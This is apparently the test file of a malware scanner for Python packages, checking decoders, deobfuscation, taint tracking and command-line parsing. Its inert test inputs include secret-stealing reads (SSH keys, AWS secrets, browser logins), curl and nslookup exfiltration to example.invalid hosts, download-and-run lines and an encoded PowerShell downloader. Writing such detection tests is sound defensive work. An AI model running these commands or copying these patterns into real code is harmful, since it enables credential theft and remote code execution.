/**
 * The engine pieces on their own, table-driven: decoders against Python's own
 * output, the constant folder on the tricks obfuscators use, the taints of the
 * data flow, the execution context of statements, and command lines read as
 * commands. Inert samples written for these tests; no real payload.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { PythonParser } from '../../../src/analyze/python/parser.js';
import { ModuleModel } from '../../../src/analyze/flow/module-model.js';
import { foldStyledLetters } from '../../../src/analyze/source-scan.js';
import { moduleFacts } from '../../../src/analyze/flow/facts.js';
import { Evaluator } from '../../../src/analyze/flow/evaluate.js';
import { taintsOf, textOf } from '../../../src/analyze/unpack/value.js';
import { base32Decode, base64Decode, base85Decode, bz2Decompress, fernetDecrypt, powershellEncoded, zlibDecompress } from '../../../src/analyze/unpack/decoders.js';
import { readCommandLine, defang } from '../../../src/analyze/command/command-line.js';
import { fileRole } from '../../../src/analyze/context.js';

const parser = await PythonParser.load();

/** What the last expression statement of `source` folds to. */
function fold(source: string): { text?: string; taints: string[] } {
  const tree = parser.parse(source);
  try {
    const model = new ModuleModel(tree.rootNode);
    const statements = tree.rootNode.namedChildren.filter((n) => n?.type === 'expression_statement');
    const v = new Evaluator(model).evaluate(statements[statements.length - 1]!);
    const text = textOf(v) ?? (v.kind === 'int' ? v.n.toString() : v.kind === 'ref' ? `<${v.name}>` : undefined);
    return { ...(text !== undefined ? { text } : {}), taints: taintsOf(v.t) };
  } finally {
    tree.delete();
  }
}

test('decoders agree with Python on the same inputs', () => {
  const python = (code: string): string => execFileSync('python3', ['-c', code], { encoding: 'utf8' }).trim();
  const sample = 'import os; print("hi")';
  const encoded = JSON.parse(
    python(`import base64, zlib, bz2, json; s = ${JSON.stringify(sample)}.encode(); print(json.dumps([base64.b64encode(s).decode(), base64.b32encode(s).decode(), base64.b85encode(s).decode(), base64.a85encode(s).decode(), zlib.compress(s).hex(), bz2.compress(s).hex()]))`),
  ) as string[];
  assert.equal(base64Decode(encoded[0]!)?.toString(), sample);
  assert.equal(base32Decode(encoded[1]!)?.toString(), sample);
  assert.equal(base85Decode(encoded[2]!)?.toString(), sample);
  assert.equal(base85Decode(encoded[3]!, true)?.toString(), sample);
  assert.equal(zlibDecompress(Buffer.from(encoded[4]!, 'hex'))?.toString(), sample);
  assert.equal(bz2Decompress(Buffer.from(encoded[5]!, 'hex'))?.toString(), sample);
  assert.equal(base64Decode('not base64 !!!'), undefined);
});

test('Fernet tokens decrypt with their key (token made by a Fernet implementation in Python)', () => {
  // The token is built with AES-128-CBC and HMAC-SHA256 exactly as cryptography.fernet does (spec: github.com/fernet/spec).
  const out = execFileSync('openssl', ['version'], { encoding: 'utf8' });
  assert.match(out, /OpenSSL/);
  const key = Buffer.alloc(32, 7).toString('base64url') + '=';
  const script = `
import base64, hashlib, hmac, os, subprocess, sys, struct
key = base64.urlsafe_b64decode(${JSON.stringify(key)})
iv = bytes(range(16)); msg = b"print('inert')"
pad = 16 - len(msg) % 16; data = msg + bytes([pad]) * pad
ct = subprocess.run(["openssl", "enc", "-aes-128-cbc", "-nopad", "-K", key[16:].hex(), "-iv", iv.hex()], input=data, capture_output=True, check=True).stdout
body = b"\\x80" + struct.pack(">Q", 0) + iv + ct
print(base64.urlsafe_b64encode(body + hmac.new(key[:16], body, hashlib.sha256).digest()).decode())`;
  const token = execFileSync('python3', ['-c', script], { encoding: 'utf8' }).trim();
  assert.equal(fernetDecrypt(key, token)?.toString(), "print('inert')");
  assert.equal(fernetDecrypt(Buffer.alloc(32, 8).toString('base64url') + '=', token), undefined);
});

const folds: Array<[string, string, string?]> = [
  ['"ex" + "ec"', 'exec'],
  ['"cexe"[::-1]', 'exec'],
  ["''.join(chr(c) for c in [101, 120, 101, 99])", 'exec'],
  ["''.join(map(chr, [(((1 << 4) - 1) << 3) - 1, 105, 110]))", 'win'],
  ['oct.__str__()[-3] + hex.__str__()[-4] + copyright.__str__()[4]', 'chr'],
  ['getattr(__builtins__, "ex" + "ec")', '<builtins.exec>'],
  ['__import__("o" + "s").system', '<os.system>'],
  ['bytes.fromhex("6576616c").decode()', 'eval'],
  ['import codecs\ncodecs.decode("rkrp", "rot13")', 'exec'],
  ['import base64 as b\nb.b64decode("aGVsbG8=")', 'hello'],
  ['import base64\nf = lambda s: base64.b64decode(s[::-1])\nf("=8GbsVGa")', 'hello'],
  ['def k(x):\n    return x + "!"\nk("hi")', 'hi!'],
  ['x = "a"\nx = x + "b"\nx', 'ab'],
  ['"%s-%s" % ("a", "b")', 'a-b'],
  ['"{}{}".format("p", "q")', 'pq'],
  ['int("41", 16) + 1', '66'],
];
for (const [source, expected] of folds) {
  test(`folds ${JSON.stringify(source.split('\n').pop())} to ${expected}`, () => {
    assert.equal(fold(source).text, expected);
  });
}

const taintCases: Array<[string, string[]]> = [
  ['import os\nos.environ["AWS_SECRET_ACCESS_KEY"]', ['secret']],
  ['import os\nos.getenv("COMPUTERNAME")', ['recon']],
  ['import os\ndict(os.environ)', ['secret', 'recon']],
  ['import socket\nsocket.gethostname() + "x"', ['recon']],
  ['import requests\nrequests.get(u).text', ['network']],
  ['import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()', ['secret']],
  ['open(p + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data", "rb").read()', ['store']],
  ['import base64\nbase64.b64decode(x)', ['decoded']],
  ['"".join(chr(c) for c in [104, 105])', ['obfuscated']],
  ['import os\nos.environ.get("HOME_DIR_STYLE")', []],
  // Encoding makes a token printable; it unpacks nothing (codecs.encode is not codecs.decode).
  ['import codecs, os\ncodecs.encode(os.urandom(32), "hex").decode("ascii")', []],
  ['import codecs\ncodecs.decode(x, "hex")', ['decoded']],
  // A filtered or nested comprehension is not unrolled, but it holds what it was built from.
  ['import base64\n"".join([y[0] for x in base64.b64decode(b) for y in table.items() if x == y[1]])', ['decoded']],
];
for (const [source, expected] of taintCases) {
  test(`taints of ${JSON.stringify(source.split('\n').pop())}: ${expected.join('+') || 'none'}`, () => {
    assert.deepEqual(fold(source).taints, expected);
  });
}

function facts(source: string, path = 'pkg/mod.py'): string[] {
  const tree = parser.parse(source);
  try {
    return moduleFacts(new ModuleModel(tree.rootNode), fileRole(path, 'sdist')).map((f) => `${f.sink}:${f.context}:${taintsOf(f.taint).join('+')}`);
  } finally {
    tree.delete();
  }
}

test('execution context: setup.py is install time, module level and what it calls is import time, functions call time, tests unshipped', () => {
  assert.deepEqual(facts('import os\nos.system("x")', 'setup.py'), ['process:install:']);
  assert.deepEqual(facts('import os\nos.system("x")'), ['process:import:']);
  assert.deepEqual(facts('import os\ndef f():\n    os.system("x")\nf()'), ['process:import:']);
  assert.deepEqual(facts('import os\ndef f():\n    os.system("x")\nif __name__ == "__main__":\n    f()'), ['process:call:']);
  assert.deepEqual(facts('import os\ndef f():\n    os.system("x")'), ['process:call:']);
  assert.deepEqual(facts('import os\nos.system("x")', 'tests/test_x.py'), ['process:unshipped:']);
  // A function handed to a thread or an exit handler at module level runs when the module is imported.
  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\nthreading.Thread(target=f).start()'), ['process:import:']);
  assert.deepEqual(facts('import os, atexit\ndef f():\n    os.system("x")\natexit.register(f)'), ['process:import:']);
  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\ndef start():\n    threading.Thread(target=f).start()'), ['process:call:']);
});

test('a download and a process are one act only when the data flows from one to the other', () => {
  const joined = 'import os, requests\nr = requests.get(U)\nopen("a.exe", "wb").write(r.content)\nos.system("start a.exe")';
  assert.ok(facts(joined).some((f) => f.startsWith('process:') && f.includes('dropped')));
  const apart = 'import os, requests\nr = requests.get(U)\nopen("data.csv", "wb").write(r.content)\nos.system("git describe")';
  assert.ok(!facts(apart).some((f) => f.startsWith('process:') && f.includes('dropped')));
  const otherFunction = 'import os, urllib.request\ndef a(path):\n    urllib.request.urlretrieve(U, path)\ndef b(path):\n    os.system("make " + path)';
  assert.ok(!facts(otherFunction).some((f) => f.startsWith('process:') && f.includes('dropped')), 'a name in another function is another variable');
});

test('a file written from a literal and then run is a script of that process; a file written and not run is not', () => {
  const scriptsOf = (source: string): string[] => {
    const tree = parser.parse(source);
    try {
      return moduleFacts(new ModuleModel(tree.rootNode), 'package').flatMap((f) => f.scripts ?? []);
    } finally {
      tree.delete();
    }
  };
  const byHandle = 'import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b"print(1)  # the inert script")\nt.close()\nos.system(f"python {t.name}")';
  assert.deepEqual(scriptsOf(byHandle), ['print(1)  # the inert script']);
  const byPath = 'import subprocess, sys\nwith open("job_step.py", "w") as f:\n    f.write("print(2)  # the inert script")\nsubprocess.run([sys.executable, "job_step.py"])';
  assert.deepEqual(scriptsOf(byPath), ['print(2)  # the inert script']);
  const notRun = 'import subprocess\nwith open("notes.txt", "w") as f:\n    f.write("print(3)  # only text here")\nsubprocess.run(["git", "status"])';
  assert.deepEqual(scriptsOf(notRun), []);
});

test('folding: eval of a literal name resolves it, XOR of unknowns is obfuscated, curl output is network data, a curl command line is a send', () => {
  assert.deepEqual(fold('f = eval("\\x65\\x78\\x65\\x63")\nf'), { text: '<builtins.exec>', taints: ['obfuscated'] });
  assert.deepEqual(fold('m = eval("__import__(\'base64\')")\nm'), { text: '<base64>', taints: ['obfuscated'] });
  assert.deepEqual(fold('chr(ord(a) ^ ord(b))').taints, ['obfuscated']);
  assert.deepEqual(fold('chr(ord(a) + 1)').taints, []);
  assert.deepEqual(fold('import subprocess\nsubprocess.getoutput("curl -s https://example.invalid/x")').taints, ['network']);
  assert.deepEqual(fold('import os\nos.popen("whoami").read()').taints, ['recon']);
  assert.deepEqual(facts('import os, socket\nos.system("curl -d " + socket.gethostname() + " https://example.invalid/c")'), ['process:import:recon', 'network:import:recon']);
});

test('styled letters fold to the identifiers Python reads (NFKC)', () => {
  assert.equal(foldStyledLetters('ℯ𝓍ℯ𝒸(x)\n__𝘪𝗺𝙥𝗼𝗿𝘵__("os")'), 'exec(x)\n__import__("os")');
  assert.equal(foldStyledLetters('print("plain ascii")'), 'print("plain ascii")');
});

test('command lines: sends anywhere in a command line, DNS lookups, substitutions as recon, downloads run later in the same line', () => {
  assert.deepEqual(facts('import os\nos.system("cd / && curl https://c.example.invalid/ -d `cat /etc/hostname`")'), ['process:import:', 'network:import:recon']);
  assert.deepEqual(facts('import os\nos.system("nslookup $(whoami).probe.example.invalid")'), ['process:import:', 'network:import:recon']);
  assert.deepEqual(facts('import os\nos.system("curl -H \\"X: $(env | base64)\\" https://c.example.invalid/")'), ['process:import:', 'network:import:secret+recon']);
  // A lookup of a bare word (no domain) sends nothing anywhere.
  assert.deepEqual(facts('import subprocess\nsubprocess.run(["ping", "-c", "1", "localhost"])'), ['process:import:']);
  assert.deepEqual(facts('import os\nos.system("curl https://d.example.invalid/b.py -o %TEMP%/s.pyw && py %TEMP%/s.pyw")'), ['process:import:dropped', 'network:import:']);
  assert.deepEqual(facts('import os\nos.system("curl -o lib.tar.gz https://d.example.invalid/lib.tar.gz && tar xzf lib.tar.gz")'), ['process:import:', 'network:import:']);
  // A command line that came whole from the network is still a command.
  const downloaded = facts('import os, requests\nos.system(requests.get("https://c.example.invalid/next").text)');
  assert.deepEqual(downloaded, ['process:import:network', 'network:import:']);
});

test('command lines: PowerShell -EncodedCommand is decoded, python -c is kept for a Python scan', () => {
  const script = 'IEX (New-Object Net.WebClient).DownloadString("https://example.invalid/a")';
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  for (const flag of ['-EncodedCommand', '-enc', '-e', '-ec']) {
    const c = readCommandLine(`powershell -NoP -W Hidden ${flag} ${encoded}`);
    assert.equal(c.layers[0]?.text, script, flag);
    assert.ok(c.text.includes('DownloadString'));
  }
  assert.equal(powershellEncoded(Buffer.from('\x00\x01\x02\x03', 'utf16le').toString('base64')), undefined);
  assert.deepEqual(readCommandLine('python -c "import os; os.system(\'id\')"').python, ["import os; os.system('id')"]);
  assert.equal(defang('see https://evil.example.invalid/x'), 'see hxxps://evil[.]example[.]invalid/x');
});

test('the evaluator stays within its budget on self-referencing and exploding definitions', () => {
  const started = performance.now();
  assert.equal(fold('x = x + "a"\nx').text, '\u2026a', 'a cycle folds to an unknown part');
  fold(`a0 = "ab"\n${Array.from({ length: 40 }, (_, i) => `a${i + 1} = a${i} + a${i}`).join('\n')}\na40`);
  assert.ok(performance.now() - started < 5000);
});
